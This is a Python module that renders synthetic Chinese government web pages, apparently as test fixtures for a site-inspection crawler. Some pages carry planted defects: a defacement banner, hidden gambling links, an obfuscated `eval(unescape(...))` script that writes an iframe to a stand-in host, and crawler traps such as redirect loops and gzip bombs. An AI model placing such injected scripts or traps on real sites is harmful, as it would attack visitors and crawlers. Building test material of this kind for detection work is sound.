"""Render one farm page from (site, route). Pure functions of their input: the same seed gives
byte-identical pages. The server adds only transport behaviour (availability, hostile streams)."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date, timedelta
from html import escape
from urllib.parse import quote

from govsite.farm import files, text
from govsite.farm.model import TYPE_LABEL, Column, Site
from govsite.farm.rng import h64
from govsite.farm.urls import Route, Urls, urls_for

PAGE_SIZE = 20
HOSTILE_LINK_TEXT = {
    "calendar_trap": ("活动日历", "/calendar?month={ym}"),
    "session_trap": ("用户登录", "/portal/;jsessionid={sid}"),
    "redirect_loop": ("旧版入口", "/go/loop1"),
    "huge_page": ("全部信息下载", "/download/all.html"),
    "gzip_bomb": ("数据开放", "/data/export.html"),
    "slow_drip": ("网上展厅", "/slow/index.html"),
}


@dataclass
class Page:
    status: int
    body: bytes = b""
    ctype: str = "text/html"
    charset: str | None = "utf-8"
    headers: dict[str, str] = field(default_factory=dict)
    special: str | None = None  # huge_page | gzip_bomb | slow_drip (streamed by the server)


def not_found(msg: str = "404 Not Found") -> Page:
    return Page(404, f"<html><head><title>404</title></head><body><h1>{msg}</h1><p>您访问的页面不存在。</p></body></html>"
                .encode(), charset="utf-8")


class Renderer:
    def __init__(self, site: Site) -> None:
        self.site = site
        self.ident = site.ident
        self.u: Urls = urls_for(site)
        self.style = site.ident.style
        self.farm = site.farm

    # -- formatting ------------------------------------------------------------------
    def fmt_list(self, d: date) -> str:
        if self.style == "ucap":
            return f"{d:%Y/%m/%d}"
        if self.style == "query":
            return f"{d.year}年{d.month}月{d.day}日"
        return f"{d:%Y-%m-%d}"

    def fmt_home(self, d: date) -> str:
        return f"[{d:%m-%d}]" if self.style == "ucap" else self.fmt_list(d)

    def encode(self, html: str, enc: str | None = None) -> bytes:
        return html.encode(enc or self.ident.encoding, "xmlcharrefreplace")

    def html_page(self, html: str, status: int = 200) -> Page:
        return Page(status, self.encode(html), charset=self.ident.encoding)

    # -- page frame ------------------------------------------------------------------
    def head(self, title: str, meta: list[tuple[str, str]], declared: str | None = None) -> str:
        ident = self.ident
        enc = declared or ident.encoding
        if self.style == "ucap":
            cs = f'<meta http-equiv="Content-Type" content="text/html; charset={enc}">'
        elif self.style == "query" and not ident.meta_charset and declared is None:
            cs = ""
        else:
            cs = f'<meta charset="{enc}">'
        site_meta = self.site.memo.get("site_meta")
        if site_meta is None:
            site_meta = self.site.memo["site_meta"] = "\n".join(
                f'<meta name="{k}" content="{escape(v)}">'
                for k, v in (("SiteName", ident.name), ("SiteDomain", ident.host), ("SiteIDCode", ident.code)))
        metas = "\n".join([site_meta, *(f'<meta name="{k}" content="{escape(v)}">' for k, v in meta)])
        return (f'<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n{cs}\n<meta http-equiv="X-UA-Compatible" content="IE=edge">\n'
                f"<title>{escape(title)}</title>\n{metas}\n"
                '<link rel="stylesheet" href="/css/style.css">\n<script src="/js/common.js"></script>\n</head>\n')

    def nav(self) -> str:
        got = self.site.memo.get("nav")
        if got is None:
            got = self.site.memo["nav"] = self._nav()
        return got

    def _nav(self) -> str:
        s, u = self.site, self.u
        items = [("首页", u.home())]
        for key in ("zwyw", "tzgg", "zcwj"):
            c = s.by_key[key]
            items.append((c.name, u.column(c)))
        items.append(("信息公开", u.catalogue()))
        items.append(("办事服务", u.column(s.by_key["bszn"])))
        inter = s.by_key.get("zxzx") or s.by_key["zjdc"]
        items.append(("互动交流", u.column(inter)))
        items.append(("领导信息", u.leaders()))
        lis = "".join(f'<li><a href="{escape(h)}">{escape(t)}</a></li>' for t, h in items)
        action, param = u.search_form()
        hidden = ""
        if self.style == "query":
            hidden = '<input type="hidden" name="c" value="search">'
        if self.style == "ucap":
            hidden = '<input type="hidden" name="webid" value="1">'
        # Drop-down menu of every first-level column, as real CMS templates render it, so
        # every column is reachable by a crawler.
        sub = "".join(f'<li><a href="{escape(u.column(c))}">{escape(c.name)}</a></li>'
                      for c in s.columns if c.d.parent is None)
        return (f'<div class="header"><div class="logo"><h1>{escape(self.ident.name)}</h1></div>\n'
                f'<form class="search-form" action="{action}" method="get">{hidden}'
                f'<input type="text" name="{param}" placeholder="请输入关键字"><input type="submit" value="搜索"></form>\n'
                f'<div class="nav"><ul>{lis}</ul></div>\n<div class="sub-nav"><ul>{sub}</ul></div></div>\n')

    def conac(self) -> str:
        d = self.ident.division
        n8 = f"{h64(self.ident.host, 'conac') % 10**8:08d}"
        path = f"{d[:2]}/000/0000/{n8}/CA{d[:2]}0000000{n8}0001.js"
        return ('<script type="text/javascript">document.write(unescape("%3Cspan id=\'_ideConac\' %3E%3C/span%3E'
                f"%3Cscript src='http://dcs.conac.cn/js/{path}' type='text/javascript'%3E%3C/script%3E\"));</script>")

    def footer(self, page_url: str) -> str:
        got = self.site.memo.get("footer")
        if got is None:
            got = self.site.memo["footer"] = self._footer("\x00URL\x00")
        if self.style == "query":
            return got.replace("\x00URL\x00", quote(self.farm.base_url(self.ident.host) + page_url, safe=""))
        return got

    def _footer(self, url_mark: str) -> str:
        ident, s = self.ident, self.site
        missing = s.marks.get("missing_footer_item")
        code_shown = s.marks.get("wrong_code", ident.code)
        sponsor_label = {"trs": "主办单位：", "ucap": "主办：", "query": "网站主办："}[self.style]
        code_label = "政府网站标识码：" if self.style == "ucap" else "网站标识码："
        operator = ident.official_name + ("办公室" if not ident.dept else "办公室信息科")
        tel = text.phone(s.r("tel"), ident.area)
        parts = []
        if missing != "sponsor":
            parts.append(f"{sponsor_label}{escape(ident.official_name)}　承办：{escape(operator)}")
        if missing != "contact":
            parts.append(f"联系电话：{tel}")
        line1 = "　".join(parts)
        icp_no = f"{ident.province}ICP备{h64(ident.host, 'icp') % 10**8:08d}号"
        police = f"{ident.division}{h64(ident.host, 'psb') % 10**8:08d}"
        line2 = []
        if missing != "icp":
            line2.append(f'<a href="https://beian.miit.gov.cn/" target="_blank">{icp_no}</a>')
        if missing != "site_code":
            line2.append(f"{code_label}{code_shown}")
        if missing != "police":
            line2.append(f'<a target="_blank" href="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode={police}">'
                         f"{ident.province}公网安备 {police}号</a>")
        wzbs = []
        if missing != "conac":
            wzbs.append(self.conac())
        if s.has("jiucuo_static_image"):
            wzbs.append('<img src="/images/jiucuo.png" alt="我为政府网站找错">')
        elif not s.has("jiucuo_missing"):
            if self.style == "query":
                url = url_mark
                wzbs.append(f'<a href="https://zfwzgl.www.gov.cn/exposure/jiucuo.html?site_code={ident.code}&amp;url={url}" '
                            'target="_blank"><img src="/images/jiucuo.png" alt="我为政府网站找错"></a>')
            else:
                wzbs.append(f"<script id=\"_jiucuo_\" sitecode='{ident.code}' "
                            "src='https://zfwzgl.www.gov.cn/exposure/jiucuo.js'></script>")
        return ('<div class="footer">\n<p class="links"><a href="/">网站地图</a> | <a href="/">联系我们</a></p>\n'
                f"<p>{line1}</p>\n<p>{'　'.join(line2)}</p>\n"
                f'<div class="footer-wzbs">\n{chr(10).join(wzbs)}\n</div>\n</div>\n')

    def frame(self, title: str, meta: list[tuple[str, str]], body: str, page_url: str,
              declared: str | None = None) -> str:
        return (self.head(title, meta, declared) + "<body>\n" + self.nav() + '<div class="main">\n' + body
                + "</div>\n" + self.footer(page_url) + "</body>\n</html>\n")

    def col_meta(self, col: Column) -> list[tuple[str, str]]:
        return [("ColumnName", col.name), ("ColumnDescription", f"{self.ident.official_name}{col.name}栏目"),
                ("ColumnKeywords", f"{self.ident.stem}，{col.name}"), ("ColumnType", TYPE_LABEL.get(col.type, "其他"))]

    # -- lists -----------------------------------------------------------------------
    def item_list(self, col: Column, idxs: list[int], home: bool) -> str:
        s, u = self.site, self.u
        fmt = self.fmt_home if home else self.fmt_list
        rows = []
        for i in idxs:
            t = escape(s.item_title(col, i))
            href = escape(u.item(col, i))
            d = fmt(s.item_date(col, i))
            extra = ""
            if col.kind == "consult":
                answered, _ = s.consult_state(col, i)
                extra = f'<span class="status">状态：{"已答复" if answered else "未答复"}</span>'
            if self.style == "trs":
                rows.append(f'<li><a href="{href}" title="{t}" target="_blank">{t}</a>{extra}<span class="date">{d}</span></li>')
            elif self.style == "ucap":
                if home:
                    rows.append(f'<tr><td class="bt-td"><a href="{href}" title="{t}" target="_blank">{t}</a>{extra}</td>'
                                f'<td class="bt-data" align="right">{d}</td></tr>')
                else:
                    rows.append(f'<li><a href="{href}" title="{t}" target="_blank">{t}</a>{extra}<span class="bt-data">{d}</span></li>')
            else:
                if home:
                    rows.append(f'<dd><a href="{href}" title="{t}">{t}</a>{extra}<em>{d}</em></dd>')
                else:
                    rows.append(f'<tr><td class="t"><a href="{href}" title="{t}">{t}</a>{extra}</td><td class="d">{d}</td></tr>')
        body = "\n".join(rows)
        if self.style == "trs":
            return f'<ul class="list">\n{body}\n</ul>'
        if self.style == "ucap":
            return (f'<table class="bt-list" width="100%">\n{body}\n</table>' if home
                    else f'<div class="default_pgContainer"><ul>\n{body}\n</ul></div>')
        return body if home else f'<table class="list-table">\n{body}\n</table>'

    def home_block(self, col: Column, idxs: list[int]) -> str:
        href = escape(self.u.column(col))
        name = escape(col.name)
        lst = self.item_list(col, idxs, home=True)
        if self.style == "trs":
            return (f'<div class="column-box"><div class="hd"><h3><a href="{href}">{name}</a></h3>'
                    f'<a class="more" href="{href}">更多&gt;&gt;</a></div>\n{lst}</div>\n')
        if self.style == "ucap":
            return (f'<div class="bt-box"><div class="bt-title"><span class="bt-name"><a href="{href}">{name}</a></span>'
                    f'<a class="bt-more" href="{href}">更多</a></div>\n{lst}</div>\n')
        return (f'<dl class="lanmu"><dt><a class="lm-name" href="{href}">{name}</a>'
                f'<a class="more" href="{href}">更多&gt;&gt;</a></dt>\n{lst}</dl>\n')

    # -- pages -----------------------------------------------------------------------
    def home(self) -> Page:
        s, u, ident = self.site, self.u, self.ident
        out = []
        if s.has("defaced"):
            out.append(f'<div id="hacked" style="background:#000;color:#0f0;padding:40px;text-align:center">'
                       f"<h1>{self.defacement_text()}</h1><p>Your security is low. Greetz to all crew.</p></div>\n")
        if ident.hub:
            links = [(c.name, u.column(c)) for c in s.columns if c.d.parent is None]
            links += [("信息公开目录", u.catalogue()), ("领导信息", u.leaders())]
            out.append('<div class="hub-nav"><ul>\n' + "\n".join(
                f'<li><a href="{escape(h)}">{escape(t)}</a></li>' for t, h in links) + "\n</ul></div>\n")
        else:
            for col, idxs in s.home_items():
                out.append(self.home_block(col, idxs))
        # 专题专栏: valid links to column pages, plus the broken ones of the defect.
        zt = [(f"{c.name}专栏", u.column(c)) for c in s.columns if c.type == "disclosure"][:3]
        zt += [(t, h) for t, h in self.broken_home_links()]
        out.append('<div class="zt-links"><h3>专题专栏</h3><ul>' + "".join(
            f'<li><a href="{escape(h)}">{escape(t)}</a></li>' for t, h in zt) + "</ul></div>\n")
        out.append(f'<div class="quick"><a href="{escape(u.leaders())}">领导信息</a> '
                   f'<a href="{escape(u.catalogue())}">政府信息公开目录</a> '
                   f'<a href="{escape(u.column(s.by_key["bszn"]))}">办事服务</a></div>\n')
        if s.has("ads"):
            t, host = self.ad()
            out.append(f'<div class="ad-banner"><a href="http://{host}/?from=gov" target="_blank">'
                       f'<img src="/images/ad_{h64(host) % 100}.gif" alt="{t}">{t}</a></div>\n')
        if s.has("hidden_links"):
            out.append('<div style="display:none">' + "".join(
                f'<a href="http://{h}/">{escape(t)}</a>' for t, h in self.gambling()) + "</div>\n")
        if s.has("malicious_script"):
            out.append(self.malicious() + "\n")
        out.append(self.friend_links())
        meta = [("ColumnName", "首页"), ("ColumnType", "首页")]
        return self.html_page(self.frame(ident.name, meta, "".join(out), "/"))

    def defacement_text(self) -> str:
        return "Hacked by " + ["Sh3ll Team", "Anonymous Crew", "x0r Security", "Black Dragon"][h64(self.ident.host) % 4]

    def ad(self) -> tuple[str, str]:
        return text.ADS[h64(self.ident.host, "ad") % len(text.ADS)]

    def gambling(self) -> list[tuple[str, str]]:
        r = self.site.r("gambling")
        return [(t, f"www.{r.choice(['amjs', 'bet365c', 'pj88', 'ylc'])}{r.randint(100, 999)}.com")
                for t in r.sample(text.GAMBLING, 3)]

    def malicious(self) -> str:
        r = self.site.r("malicious")
        if r.random() < 0.5:
            return f'<script type="text/javascript" src="http://js.{r.choice(["cnzz-stat", "tongji-cdn", "jquery-lib"])}.com/{r.randint(1, 99)}.js"></script>'
        return ('<script type="text/javascript">eval(unescape("%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%27%3c'
                '%69%66%72%61%6d%65%20%73%72%63%3d%68%74%74%70%3a%2f%2f%78%2e%63%6f%6d%3e%27%29"));</script>')

    def broken_home_links(self) -> list[tuple[str, str]]:
        s = self.site
        if not s.has("broken_link_home"):
            return []
        r = s.r("broken_home")
        out = []
        for n in range(r.randint(1, 3)):
            col = s.by_key[r.choice(["zwyw", "tzgg", "zcwj"])]
            out.append((f"{text.title('news', r, s.ctx())}", self.u.missing_item(col, n)))
        return out

    def broken_deep_link(self, col: Column, idx: int) -> str | None:
        s = self.site
        if (col.key, idx) not in s.marks.get("broken_link_deep", []):
            return None
        return self.u.missing_item(col, 7 + idx % 5)

    def friend_links(self) -> str:
        s, farm = self.site, self.farm
        r = s.r("friends")
        others = [farm.identities[r.randrange(farm.n)] for _ in range(min(5, farm.n))]
        # Only healthy neighbours: a link to a site in a failing availability slot would be an
        # unrecorded broken link.
        links = [(o.name, farm.base_url(o.host) + "/") for o in others
                 if o.host != s.host and not o.intents & {"unreachable", "flaky"}]
        for kind, (t, pattern) in HOSTILE_LINK_TEXT.items():
            if s.has(kind):
                links.append((t, pattern.format(ym=f"{farm.as_of:%Y-%m}", sid=f"{h64(s.host, 'sid'):016X}")))
        return ('<div class="friend-links"><h3>友情链接</h3><ul>' + "".join(
            f'<li><a href="{escape(h)}" target="_blank">{escape(t)}</a></li>' for t, h in links) + "</ul></div>\n")

    def column(self, col: Column, page: int) -> Page:
        s, u = self.site, self.u
        n = len(col.ages)
        pages = max(1, (n + PAGE_SIZE - 1) // PAGE_SIZE)
        if not 1 <= page <= pages:
            return not_found()
        out = [f'<div class="position">当前位置：<a href="/">首页</a> &gt; <a href="{escape(u.column(col))}">{escape(col.name)}</a></div>\n',
               f'<h2 class="column-title">{escape(col.name)}</h2>\n']
        idxs = list(range((page - 1) * PAGE_SIZE, min(n, page * PAGE_SIZE)))
        if not idxs:
            note = "本栏目暂无需要公开的信息（依法不予公开）" if col.note_empty else "暂无信息"
            out.append(self.item_list(col, [], home=False) + f'\n<p class="no-data">{note}</p>\n')
        elif self.style == "trs" and col.type == "disclosure":
            rows = "".join(
                f'<tr><td><a href="{escape(u.item(col, i))}" title="{escape(s.item_title(col, i))}">{escape(s.item_title(col, i))}</a></td>'
                f"<td>{self.index_no(col, i)}</td><td>{escape(self.ident.official_name)}</td><td>{self.fmt_list(s.item_date(col, i))}</td></tr>\n"
                for i in idxs)
            out.append('<table class="xxgk-list"><tr><th>名称</th><th>索引号</th><th>发布机构</th><th>发布日期</th></tr>\n'
                       + rows + "</table>\n")
        else:
            out.append(self.item_list(col, idxs, home=False) + "\n")
        nxt = f' <a href="{escape(u.column(col, page + 1))}">下一页</a>' if page < pages else ""
        prv = f' <a href="{escape(u.column(col, page - 1))}">上一页</a>' if page > 1 else ""
        out.append(f'<div class="page">共{n}条 第{page}/{pages}页{prv}{nxt}</div>\n')
        if col.kind == "guide":
            out.append('<div class="online-systems"><h3>在线办理</h3><ul>' + "".join(
                f'<li><a class="online-btn" href="{escape(u.system(k))}">{name}</a></li>' for k, name in enumerate(text.SYSTEMS))
                + "</ul></div>\n")
        url = u.column(col, page)
        return self.html_page(self.frame(f"{col.name}_{self.ident.name}", self.col_meta(col), "".join(out), url))

    def index_no(self, col: Column, idx: int) -> str:
        return f"{self.ident.code[:6]}{h64(col.cid) % 1000:03d}/{self.site.item_date(col, idx).year}-{idx + 1:05d}"

    def item(self, col: Column, idx: int) -> Page:
        s, u = self.site, self.u
        t = s.item_title(col, idx)
        d = s.item_date(col, idx)
        tm = s.item_time(col, idx)
        url = u.item(col, idx)
        meta = [*self.col_meta(col), ("ArticleTitle", t), ("PubDate", f"{d:%Y-%m-%d} {tm}"),
                ("ContentSource", self.ident.official_name), ("Keywords", col.name), ("Author", ""), ("Url", url)]
        pos = (f'<div class="position">当前位置：<a href="/">首页</a> &gt; <a href="{escape(u.column(col))}">{escape(col.name)}</a> &gt; 正文</div>\n')
        body = {"guide": self.guide_body, "consult": self.consult_body, "survey": self.survey_body,
                "interview": self.interview_body}.get(col.kind, self.article_body)(col, idx, t, d, tm)
        declared = None
        enc = self.ident.encoding
        if s.marks.get("wrong_charset") == (col.key, idx):
            # Declared one way, encoded the other (header and meta agree with each other, not with the bytes).
            declared = enc
            enc = "utf-8" if self.ident.encoding == "gbk" else "gbk"
        html = self.frame(f"{t}_{self.ident.name}", meta, pos + body, url, declared)
        if s.marks.get("malformed_html") == (col.key, idx):
            html = self.malform(html)
        return Page(200, self.encode(html, enc), charset=declared or self.ident.encoding)

    def malform(self, html: str) -> str:
        html = html.replace('<div class="main">', '<div class="main"><table><tr><td><p><b>', 1)
        html = html.replace('<div class="footer">', "</div></div></span><li></table><div class=\"footer\" <p>", 1)
        cut = html.rfind("</body>")
        return html[:cut - 40] + "<div class='x\n"

    def article_body(self, col: Column, idx: int, t: str, d: date, tm: str) -> str:
        s = self.site
        r = s.r("extra", col.key, idx) if (col.key, idx) in s.marks.get("broken_link_deep", []) else None
        # A lead restating the title, as real articles open: the body speaks of its title, so the
        # engine's title/body check ("文不对题") finds nothing on clean sites.
        paras = [f"本网讯　{d.month}月{d.day}日，{t}。现将有关情况公布如下，请各单位结合实际认真抓好落实。",
                 *s.paragraphs(col.key, idx)]
        mark = s.marks.get("leader_misspelled")
        if mark and mark[:2] == (col.key, idx):
            paras.insert(1, f"会议认真传达学习了{mark[2][1]}同志重要讲话精神，研究部署贯彻落实意见。")
        mark = s.marks.get("banned_content")
        if mark and mark[:2] == (col.key, idx):
            paras.append(mark[2] + str(10000000 + h64(s.host, idx) % 90000000))
        views = 30 + h64(s.host, "views", col.key, idx) % 3000
        out = [f'<div class="article"><h1 class="article-title">{escape(t)}</h1>\n'
               f'<div class="article-info">发布时间：{d:%Y-%m-%d} {tm}　来源：{escape(self.ident.official_name)}　浏览次数：{views}</div>\n']
        if col.type in ("disclosure", "policy"):
            out.append(f'<table class="xxgk-table"><tr><th>索引号</th><td>{self.index_no(col, idx)}</td><th>发布机构</th>'
                       f"<td>{escape(self.ident.official_name)}</td></tr><tr><th>发文日期</th><td>{d.year}年{d.month}月{d.day}日</td>"
                       f"<th>文号</th><td>{escape(self.ident.stem)}政发〔{d.year}〕{idx + 3}号</td></tr></table>\n")
        out.append('<div class="article-content" id="zoom">\n' + "\n".join(f"<p>　　{escape(p)}</p>" for p in paras) + "\n")
        broken = self.broken_deep_link(col, idx)
        if broken and r is not None:
            out.append(f'<p>相关链接：<a href="{escape(broken)}">{escape(text.title(col.type, r, s.ctx()))}</a></p>\n')
        out.append("</div></div>\n")
        return "".join(out)

    def guide_body(self, col: Column, gi: int, t: str, d: date, tm: str) -> str:
        s, u = self.site, self.u
        r = s.r("guide", gi)
        ctx = s.ctx()
        item = t.removesuffix("办事指南")
        missing = s.marks.get("guide_missing_elements", {}).get(gi, [])
        atts = s.guide_attachments(gi)
        values = {
            "事项名称": item,
            "设定依据": r.choice(text.LAWS),
            "申请条件": "1．申请人具有完全民事行为能力；2．符合法律法规规定的其他条件。",
            "办理材料": "；".join(f"{i + 1}．《{item}{name}》" for i, (k, name, ext) in enumerate(atts)) + "；身份证明原件及复印件。",
            "办理地点": f"{ident_place(ctx)}政务服务中心{r.randint(1, 3)}楼{r.randint(1, 30)}号窗口",
            "办理时间": "工作日上午9:00-12:00，下午13:30-17:00（法定节假日除外）",
            "联系电话": text.phone(r, self.ident.area),
            "办理流程": "申请→受理→审查→决定→送达",
            "办理时限": f"法定时限{r.choice((20, 15, 30))}个工作日，承诺时限{r.choice((5, 7, 10))}个工作日",
            "收费标准": r.choice(["不收费", "按国家规定标准收取"]),
        }
        rows = "".join(f"<tr><th>{k}</th><td>{escape(v)}</td></tr>\n" for k, v in values.items() if k not in missing)
        links = "".join(f'<li><a href="{escape(u.attachment(gi, k, ext))}">{escape(item + name)}.{ext}</a></li>'
                        for k, name, ext in atts)
        sysk = s.guide_system(gi)
        return (f'<div class="guide"><h1 class="article-title">{escape(t)}</h1>\n'
                f'<div class="article-info">发布时间：{d:%Y-%m-%d} {tm}</div>\n'
                f'<table class="guide-table">\n{rows}</table>\n'
                f'<div class="attachments"><h3>表格下载</h3><ul>{links}</ul></div>\n'
                f'<p><a class="online-btn" href="{escape(u.system(sysk))}">在线办理</a>（{text.SYSTEMS[sysk]}）</p></div>\n')

    def consult_body(self, col: Column, idx: int, t: str, d: date, tm: str) -> str:
        s = self.site
        r = s.r("consult", idx)
        ctx = s.ctx()
        answered, reply_age = s.consult_state(col, idx)
        q = t + "希望有关部门尽快答复，谢谢！"
        out = [f'<div class="letter"><h1 class="article-title">{escape(t)}</h1>\n<p class="q-title">来信标题：{escape(t)}</p>\n'
               f'<p class="q-user">来信人：{text.person(r)[0]}**</p>\n<p class="q-date">来信时间：{d:%Y-%m-%d}</p>\n'
               f'<div class="q-content"><p>{escape(q)}</p></div></div>\n']
        if answered and reply_age is not None:
            rd = self.farm.as_of - timedelta(days=reply_age)
            a = text.fill(r.choice(text.CONSULT_A), r, {**ctx, "text": "相关工作正在按计划推进，我们将加快办理进度。"})
            out.append(f'<div class="reply"><p class="r-dept">答复单位：{escape(self.ident.official_name)}</p>\n'
                       f'<p class="r-date">答复时间：{rd:%Y-%m-%d}</p>\n<p>{escape(a)}</p></div>\n')
        else:
            out.append('<div class="reply no-reply">尚未答复</div>\n')
        return "".join(out)

    def survey_body(self, col: Column, idx: int, t: str, d: date, tm: str) -> str:
        end = d + timedelta(days=30)
        paras = self.site.paragraphs("survey", idx, n=2)
        return (f'<div class="survey"><h1 class="article-title">{escape(t)}</h1>\n'
                f'<p class="survey-time">征集时间：{d:%Y-%m-%d} 至 {end:%Y-%m-%d}</p>\n'
                + "".join(f"<p>{escape(p)}</p>" for p in paras)
                + "<p>意见建议可通过电子邮件或信函方式反馈。</p></div>\n")

    def interview_body(self, col: Column, idx: int, t: str, d: date, tm: str) -> str:
        r = self.site.r("interview", idx)
        ctx = self.site.ctx()
        guest = text.person(r)
        qa = "".join(f'<p class="q">主持人：{escape(text.fill(text.CONSULT_Q[i % len(text.CONSULT_Q)], r, ctx))}</p>'
                     f'<p class="a">{escape(guest)}：{escape(self.site.paragraphs("interview", idx, i, n=1)[0])}</p>' for i in range(3))
        return (f'<div class="interview"><h1 class="article-title">{escape(t)}</h1>\n'
                f'<p class="interview-time">访谈时间：{d:%Y-%m-%d} {tm}</p>\n<p class="guest">访谈嘉宾：{escape(guest)}</p>\n{qa}</div>\n')

    def catalogue(self) -> Page:
        s, u = self.site, self.u
        subs = [c for c in s.columns if c.d.parent == "xxgk"]
        lis = "".join(f'<li><a href="{escape(u.column(c))}">{escape(c.name)}</a><span class="count">（{len(c.ages)}）</span></li>'
                      for c in subs)
        body = ('<div class="position">当前位置：<a href="/">首页</a> &gt; 政府信息公开目录</div>\n'
                f'<h2 class="column-title">政府信息公开目录</h2>\n<div class="xxgk-catalogue"><ul>{lis}</ul></div>\n'
                '<p><a href="/">政府信息公开指南</a> <a href="/">政府信息公开年报</a></p>\n')
        meta = [("ColumnName", "信息公开目录"), ("ColumnType", "信息公开目录")]
        return self.html_page(self.frame(f"政府信息公开目录_{self.ident.name}", meta, body, u.catalogue()))

    def leaders(self) -> Page:
        u = self.u
        lis = "".join(f'<div class="leader"><a href="{escape(u.leader(n))}"><img src="/images/leader_{n}.jpg" alt="{escape(name)}">'
                      f'<span class="name">{escape(name)}</span><span class="post">{escape(post)}</span></a></div>\n'
                      for n, (name, post) in enumerate(self.site.leaders()))
        meta = [("ColumnName", "领导信息"), ("ColumnType", "领导信息")]
        body = f'<h2 class="column-title">领导信息</h2>\n<div class="leaders">\n{lis}</div>\n'
        return self.html_page(self.frame(f"领导信息_{self.ident.name}", meta, body, u.leaders()))

    def leader(self, n: int) -> Page:
        ls = self.site.leaders()
        if not 0 <= n < len(ls):
            return not_found()
        name, post = ls[n]
        r = self.site.r("leader", n)
        born = r.randint(1960, 1978)
        resume = (f"{name}，男，汉族，{born}年{r.randint(1, 12)}月生，大学学历，中共党员。"
                  f"{born + 22}年参加工作，历任{self.ident.place}{r.choice(text.DEPTS)}副局长、局长等职。现任{self.ident.official_name}{post}。")
        duty = f"负责{r.choice(text.TOPICS)}、{r.choice(text.TOPICS)}方面的工作。分管{r.choice(text.DEPTS)}、{r.choice(text.DEPTS)}。"
        body = (f'<div class="leader-detail"><img src="/images/leader_{n}.jpg" alt="{escape(name)}">\n<p>姓名：<span class="name">{escape(name)}</span></p>\n'
                f'<p>职务：<span class="post">{escape(post)}</span></p>\n<div class="resume"><h3>简历</h3><p>{escape(resume)}</p></div>\n'
                f'<div class="duty"><h3>分工</h3><p>{escape(duty)}</p></div></div>\n')
        meta = [("ColumnName", "领导信息"), ("ColumnType", "领导信息")]
        return self.html_page(self.frame(f"{name}_{self.ident.name}", meta, body, self.u.leader(n)))

    def search(self, q: str) -> Page:
        s, u = self.site, self.u
        mode = s.marks.get("broken_search")
        if mode == "error":
            return Page(500, b"<html><body><h1>500 Internal Server Error</h1><p>java.lang.NullPointerException at "
                        b"com.trs.was.SearchServlet</p></body></html>", charset="utf-8")
        hits: list[tuple[Column, int]] = []
        if q and mode != "empty":
            for c in s.columns:
                for i in range(len(c.ages)):
                    if q in s.item_title(c, i):
                        hits.append((c, i))
                        if len(hits) >= 50:
                            break
        lis = "".join(f'<li><a href="{escape(u.item(c, i))}">{escape(s.item_title(c, i))}</a><span>{self.fmt_list(s.item_date(c, i))}</span></li>\n'
                      for c, i in hits)
        body = (f'<div class="search-result"><p class="keyword">搜索关键字：{escape(q)}</p><p class="count">共找到{len(hits)}条</p>\n'
                f"<ul>\n{lis}</ul></div>\n")
        meta = [("ColumnName", "站内搜索"), ("ColumnType", "搜索")]
        return self.html_page(self.frame(f"搜索结果_{self.ident.name}", meta, body, u.search(q)))

    def system(self, k: int) -> Page:
        if not 0 <= k < len(text.SYSTEMS):
            return not_found()
        if k in self.site.marks.get("online_system_down", []):
            return Page(502, b"<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway</h1></center>"
                        b"<hr><center>nginx</center></body></html>", charset=None)
        name = text.SYSTEMS[k]
        body = (f'<div class="system"><h1>在线申报系统</h1><h2>{escape(name)}</h2>\n<form method="post" action="#">'
                '<p>用户名：<input name="user"></p><p>密码：<input name="pwd" type="password"></p>'
                '<p><input type="submit" value="登录"></p></form></div>\n')
        return self.html_page(self.frame(f"{name}_{self.ident.name}", [("ColumnName", name)], body, self.u.system(k)))

    def attachment(self, col: Column, gi: int, k: int, ext: str) -> Page:
        atts = self.site.guide_attachments(gi)
        if k >= len(atts) or atts[k][2] != ext:
            return not_found()
        state = self.site.attachment_state(gi, k)
        if state == "404":
            return not_found()
        title = self.site.item_title(col, gi).removesuffix("办事指南") + atts[k][1]
        data, ctype = files.attachment(ext, title)
        if state == "empty":
            data = b""
        return Page(200, data, ctype=ctype, charset=None)

    def calendar(self, month: str) -> Page:
        try:
            y, m = (int(x) for x in month.split("-"))
            first = date(y, m, 1)
        except (ValueError, TypeError):
            first = self.farm.as_of.replace(day=1)
        prev = (first - timedelta(days=1)).replace(day=1)
        nxt = (first + timedelta(days=32)).replace(day=1)
        days = "".join(f"<td>{d}</td>" + ("</tr><tr>" if d % 7 == 0 else "") for d in range(1, 29))
        body = (f'<div class="calendar"><h2>活动日历 {first:%Y年%m月}</h2>\n'
                f'<a href="/calendar?month={prev:%Y-%m}">上一月</a> <a href="/calendar?month={nxt:%Y-%m}">下一月</a>\n'
                f"<table><tr>{days}</tr></table></div>\n")
        return self.html_page(self.frame(f"活动日历_{self.ident.name}", [("ColumnName", "活动日历")], body, "/calendar"))

    def session(self, sid: str) -> Page:
        links = "".join(f'<li><a href="/portal/;jsessionid={h64(sid, i):016X}">栏目{i + 1}</a></li>' for i in range(3))
        body = f'<div class="portal"><h2>用户中心</h2><ul>{links}</ul></div>\n'
        return self.html_page(self.frame(f"用户中心_{self.ident.name}", [("ColumnName", "用户中心")], body, "/portal/"))


def ident_place(ctx: dict[str, str]) -> str:
    return ctx.get("place", "")


def render(site: Site, route: Route) -> Page:
    r = Renderer(site)
    k = route.kind
    if k == "home":
        return r.home()
    if k == "column" and route.col is not None:
        return r.column(route.col, route.idx)
    if k == "item" and route.col is not None:
        return r.item(route.col, route.idx)
    if k == "attachment" and route.col is not None:
        return r.attachment(route.col, route.idx, route.k, route.ext)
    if k == "catalogue":
        return r.catalogue()
    if k == "leaders":
        return r.leaders()
    if k == "leader":
        return r.leader(route.idx)
    if k == "search":
        return r.search(route.arg)
    if k == "system":
        return r.system(route.idx)
    if k == "static":
        return static(route.arg)
    if k == "hostile":
        kind, _, arg = route.arg.partition(":")
        if not site.has(kind):
            return not_found()
        if kind == "calendar_trap":
            return r.calendar(arg)
        if kind == "session_trap":
            return r.session(arg)
        if kind == "redirect_loop":
            return Page(302, b"", headers={"Location": "/go/loop2" if arg == "1" else "/go/loop1"}, charset=None)
        return Page(200, b"", special=kind)
    return not_found()


def static(path: str) -> Page:
    if path.startswith("/css/") and path.endswith(".css"):
        return Page(200, files.CSS, ctype="text/css", charset="utf-8")
    if path.startswith("/js/") and path.endswith(".js"):
        return Page(200, files.JS, ctype="application/javascript", charset="utf-8")
    if path.startswith("/images/"):
        if path.endswith(".png"):
